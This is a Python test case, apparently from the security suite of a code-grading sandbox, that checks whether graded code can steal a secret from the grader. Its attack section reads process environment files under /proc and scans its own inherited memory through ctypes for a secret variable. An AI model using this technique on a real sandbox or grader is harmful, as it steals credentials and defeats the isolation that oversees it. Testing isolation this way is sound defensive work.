"""Searches its environment, /proc and its own memory (inherited from the process it was forked from) for a secret in the grader's environment."""
EXPECT_STATUS = "graded"
EXPECT_FULL = True

# %% attack
import os as _os
import re as _re
BREACHED = False
_name = "AEKIT_TEST" + "_SECRET="
_pattern = _re.compile(_re.escape(_name.encode()) + rb"([A-Za-z0-9_\-]{8,40})")
_found = set()
for _source in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
    try:
        _found |= {m.group(1) for m in _pattern.finditer(open(_source, "rb").read())}
    except OSError:
        pass
_found |= {v.encode() for k, v in _os.environ.items() if k + "=" == _name}
_total = 0
import ctypes as _ct
with open("/proc/self/maps") as _maps:  # read its own memory directly (/proc/self/mem is closed to it)
    for _line in _maps:
        _parts = _line.split()
        _start, _end = (int(x, 16) for x in _parts[0].split("-"))
        if not _parts[1].startswith("rw") or _end - _start > 256 * 2**20 or _total > 2 * 2**30:
            continue  # writable mappings hold the heap, stacks and everything inherited from the zygote
        if len(_parts) > 5 and _parts[5].startswith("[") and _parts[5] not in ("[heap]", "[stack]"):
            continue
        _chunk = _ct.string_at(_start, _end - _start)
        _total += len(_chunk)
        _found |= {m.group(1) for m in _pattern.finditer(_chunk)}
print("scanned", _total, "bytes; values found:", sorted(x.decode(errors="replace") for x in _found))
BREACHED = any(b"s3cret" in x for x in _found)
